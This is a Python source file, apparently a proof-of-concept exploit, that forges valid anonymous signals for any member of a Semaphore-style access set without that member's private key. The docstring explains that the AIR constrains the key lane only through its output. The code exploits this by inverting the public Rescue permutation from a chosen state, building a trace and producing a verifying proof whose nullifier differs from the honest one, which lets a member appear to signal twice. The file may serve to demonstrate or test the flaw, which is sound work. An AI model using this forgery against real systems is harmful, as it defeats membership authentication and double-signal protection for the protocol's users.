# forge.py
"""
Forging a signal for any access-set member without its private key.

The AIR (air.py) pins the key lane's cycle-0 input only through its output:
after seven rounds, columns 4..7 must hold the member's public key. The
permutation is public and exactly invertible, so an attacker can choose any
output state carrying the public key, e.g.

    [0, 0, 0, 0, pub_key, 0, 0, 0, 0]

and run the rounds backwards. The recovered pre-image has arbitrary capacity
and padding (which the AIR never checks) and a middle part that acts as a
"private key" for the nullifier lane. Everything else (the Merkle walk, the
topic, the nullifier lane) is filled in exactly as for an honest signer.

The result verifies, but its nullifier is merge(fake_key, Digest(topic))
instead of merge(priv_key, Digest(topic)): the member appears to have
signaled twice on the same topic.
"""

import logging
from typing import List, Sequence

from access_set import AccessSet
from hash_utils import Digest
from proof_backend import TraceTable
from rescue import DIGEST_RANGE, NUM_ROUNDS, STATE_WIDTH, inverse_permute_round
from signal_trace import SemaphoreProver, fill_trace, read_nullifier, topic_digest
from signals import Signal

logger = logging.getLogger(__name__)


def invert_permutation(output_state: Sequence[int]) -> List[int]:
    """
    Walk inverse_permute_round for rounds NUM_ROUNDS-1 .. 0.

    Returns the unique state that permute() maps to output_state.
    """
    state = list(output_state)
    for round_index in reversed(range(NUM_ROUNDS)):
        state = inverse_permute_round(state, round_index)
    return state


def forged_key_state(target: Digest) -> List[int]:
    """
    Cycle-0 key-lane seed whose permutation puts `target` in columns 4..7.
    """
    output_state = [0] * STATE_WIDTH
    output_state[DIGEST_RANGE] = list(target)
    return invert_permutation(output_state)


def forge_trace(access_set: AccessSet, index: int, topic: str) -> TraceTable:
    """
    Build a valid signal trace for member `index` from public data only.

    Raises:
        IndexError: if index is outside the access set
    """
    path = access_set.prove_membership(index)
    key_state = forged_key_state(path[0])
    fake_key = Digest.new(key_state[DIGEST_RANGE])
    return fill_trace(key_state, fake_key, path, index, topic_digest(topic))


def forge_signal(access_set: AccessSet, index: int, topic: str) -> Signal:
    trace = forge_trace(access_set, index, topic)
    proof = SemaphoreProver().prove(trace)
    nullifier = read_nullifier(trace)
    logger.debug("forged signal for leaf %d, nullifier %s", index, nullifier.hex())
    return Signal(nullifier=nullifier, proof=proof)
